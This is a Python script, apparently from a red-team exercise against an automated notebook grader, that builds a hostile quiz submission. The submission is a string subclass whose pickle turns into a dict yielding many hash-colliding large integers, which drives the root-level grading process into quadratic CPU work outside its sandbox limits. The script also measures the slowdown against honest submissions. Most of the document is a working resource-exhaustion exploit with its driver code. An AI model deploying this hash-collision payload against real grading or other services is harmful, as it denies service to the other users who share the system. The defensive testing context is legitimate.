"""a01: re-attack of round 19's fix (the grader's CPU for decoding a kernel's messages capped at 5 s) through the OTHER
channel into the grading process: the observer's reports.

A quiz answer (q1..q5) is a str subclass (so the visible assert passes) whose pickle (`__reduce_ex__`) is a dict
subclass whose items() yields N integer keys that are all equal modulo 2**61-1, so all have the same Python hash
(int hashes are not randomised). The observer's child encodes it cheaply (items() is a generator); every `wire.decode`
after that builds a real dict, where each insertion compares against every earlier key: O(N^2) comparisons of
300-digit ints. The observer pays one decode (in the sandbox, bounded by its 240 s check limit), the grading process
(root, outside the sandbox's CPU share) pays two: `judge._binding_error` (quiz calls have a literal argument) decodes
the observation with NO time limit, then `_verdict` decodes it again (60 s JUDGE_TIMEOUT). Round 19's MAX_READING_CPU
covers only kernel messages. Measured as round 18 a03: CPU seconds of the grading command's processes, grader side (uid
0) vs sandbox side (the per-submission host uid), for two honest students and for mallory + honest.
Through `python -m grader.grade --course-dir DIR --workers 1`."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common20 import *  # noqa

A = "ps1_memory"
N = int(os.environ.get("N", "50000"))
DIGITS = int(os.environ.get("DIGITS", "300"))
QUIZ = os.environ.get("QUIZ", "1,2,3,4,5").split(",")


def answer_cell(q):
    return f"""
M = (1 << 61) - 1
class Colliding(dict):
    \"\"\"Empty as a dict; items() yields {N} int keys that share one hash (multiples of 2**61-1).\"\"\"
    def __init__(self, n=0, digits=0):
        super().__init__(); self.n, self.digits = n, digits
    def items(self):
        base = 10 ** self.digits // M
        return ((M * (base + i), 0) for i in range(self.n))
    def __reduce_ex__(self, proto):
        return (Colliding, (self.n, self.digits))
class Letter(str):
    def __reduce_ex__(self, proto):
        return (Colliding, ({N}, {DIGITS}))
q{q} = Letter("a")
"""


def hostile():
    return notebook(overrides={f"quiz_q{q}": answer_cell(q) for q in QUIZ}, assignment=A)


def main():
    r = r18_runner("/tmp/attack20-a01-", A)
    h = honest(A)
    which = os.environ.get("RUNS", "1,2").split(",")
    if "1" in which:
        r.run("base", {"aa_honest": h, "zz_honest": h}, 1)
    if "2" in which:
        r.run("collide", {"mallory": hostile(), "zz_honest": h}, 1)


if __name__ == "__main__":
    main()
